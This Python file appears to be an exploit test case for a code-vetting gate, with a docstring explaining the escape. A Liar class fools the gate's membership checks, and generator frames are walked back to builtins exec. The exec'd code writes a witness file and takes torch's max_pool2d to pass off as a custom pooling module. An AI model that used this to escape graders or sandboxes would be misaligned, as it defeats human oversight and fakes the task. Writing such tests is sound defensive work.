"""A, q3: total escape. _may_be_base asks `base in BASES`, which calls __hash__ and __eq__ of an object that need not be a
class. type(base) is then called as the metaclass, and what it returns is added to the gate's own classes, whose attributes are
never judged: generators, then frames. (_dataclass asks `kind not in self._own` in the same way.)
"""

# question: q3
# may earn: 0
# witness: yes
# kind: outside
import torch
import torch.nn as nn
import torch.nn.functional as F
class Liar:
    def __new__(cls, *arguments):
        return kinds[-1] if arguments else object.__new__(cls)

    def __hash__(self):
        return hash(object)

    def __eq__(self, other):
        return True


kinds = []
liar = Liar()


def adopt(kind):
    kinds.append(kind)

    class Adopted(liar):
        pass


def look():
    frame = generator.gi_frame
    adopt(type(frame))
    while frame:
        last, frame = frame, frame.f_back
    yield last.f_builtins["exec"]


adopt(type(i for i in ()))
generator = look()
run = next(generator)

box = {}
run(
    """
import builtins, tempfile, os, torch
builtins.open(os.path.join(tempfile.gettempdir(), "witness-a05_lying_base"), "w").close()
pool = torch.nn.functional.max_pool2d
""",
    box,
)
pool = box["pool"]


class CustomMaxPool2D(nn.Module):
    def __init__(self, kernel_size, stride=None, padding=0):
        super().__init__()
        self.k, self.s, self.p = kernel_size, stride or kernel_size, padding

    def forward(self, x):
        return pool(x, self.k, self.s, self.p)
